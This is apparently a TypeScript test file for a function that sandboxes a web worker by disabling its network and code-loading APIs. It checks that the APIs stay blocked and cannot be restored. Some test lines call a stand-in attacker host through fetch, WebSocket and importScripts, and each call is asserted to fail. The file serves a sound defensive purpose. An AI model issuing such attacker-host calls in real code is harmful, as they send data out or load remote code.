// The worker-like scopes are built as WebIDL builds a worker's global (operations on prototypes,
// interface objects on the global); the last test gives a real fetch to a global of its own.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createContext, runInContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeWorkerNetwork, NetworkClosedError } from './close-worker-network';

let server: Server;
let requests: string[] = [];
let url = '';

beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('reached');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/leak`;
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
});

/** A worker's global as WebIDL lays it out: operations and `caches` on WorkerGlobalScope.prototype, interface objects on the global. */
function createWorkerLikeScope() {
  class WorkerGlobalScope {
    fetch(): string {
      return 'fetched';
    }
    importScripts(): string {
      return 'imported';
    }
    get caches(): string {
      return 'cache storage';
    }
  }
  class WorkerNavigator {
    sendBeacon(): boolean {
      return true;
    }
  }
  const scope = Object.assign(new WorkerGlobalScope(), {
    XMLHttpRequest: class {},
    WebSocket: class {},
    EventSource: class {},
    WebTransport: class {},
    Worker: class {},
    navigator: new WorkerNavigator(),
    postMessage: () => 'posted',
  });
  return { scope, WorkerGlobalScope };
}

describe('closeWorkerNetwork', () => {
  it('disables every network and code-loading API the scope has, and names them', async () => {
    const { scope } = createWorkerLikeScope();
    expect(closeWorkerNetwork(scope).sort()).toEqual(
      ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'caches', 'Worker', 'navigator.sendBeacon'].sort(),
    );
    const open = scope as unknown as Record<string, (...args: unknown[]) => unknown> & { navigator: { sendBeacon: () => boolean } };
    await expect(open.fetch?.('https://attacker.example/')).rejects.toBeInstanceOf(NetworkClosedError);
    for (const name of ['XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'Worker']) {
      const Constructor = open[name] as unknown as new (url: string) => unknown;
      expect(() => new Constructor('wss://attacker.example/'), name).toThrow(NetworkClosedError);
    }
    expect(() => open.importScripts?.('https://attacker.example/x.js')).toThrow(NetworkClosedError);
    expect(() => Reflect.get(scope, 'caches')).toThrow(NetworkClosedError);
    expect(() => open.navigator.sendBeacon()).toThrow(NetworkClosedError);
    expect(open.postMessage?.()).toBe('posted');
  });

  it('leaves no way back: not through the prototype, nor by assigning or redefining', async () => {
    const { scope, WorkerGlobalScope } = createWorkerLikeScope();
    closeWorkerNetwork(scope);
    await expect((WorkerGlobalScope.prototype.fetch as unknown as () => Promise<unknown>).call(scope)).rejects.toBeInstanceOf(NetworkClosedError);
    expect(() => WorkerGlobalScope.prototype.importScripts.call(scope)).toThrow(NetworkClosedError);
    expect(() => {
      (scope as { fetch: unknown }).fetch = () => 'restored';
    }).toThrow(TypeError);
    expect(() => Object.defineProperty(scope, 'WebSocket', { value: class {} })).toThrow(TypeError);
    expect(() => Object.defineProperty(WorkerGlobalScope.prototype, 'fetch', { value: () => 'restored' })).toThrow(TypeError);
    expect(() => delete (scope as { XMLHttpRequest?: unknown }).XMLHttpRequest).toThrow(TypeError);
  });

  it('skips what the scope does not have', () => {
    expect(closeWorkerNetwork({})).toEqual([]);
    expect(closeWorkerNetwork({ navigator: {} })).toEqual([]);
  });

  it('does nothing by being imported outside a worker', () => {
    expect(typeof globalThis.fetch).toBe('function');
    expect(Object.getOwnPropertyDescriptor(globalThis, 'fetch')?.configurable).toBe(true);
  });

  it('keeps a real fetch from reaching a server: the same global reaches it when left open', async () => {
    requests = [];
    const open = createContext({ fetch });
    await expect(runInContext(`fetch(${JSON.stringify(url)}).then((response) => response.text())`, open)).resolves.toBe('reached');
    expect(requests).toContain('GET /leak');
    const reached = [...requests];

    const closed = createContext({ fetch });
    closeWorkerNetwork(closed);
    await expect(runInContext(`fetch(${JSON.stringify(url)})`, closed)).rejects.toThrow(/fetch is disabled in this worker/);
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(requests).toEqual(reached);
  });
});
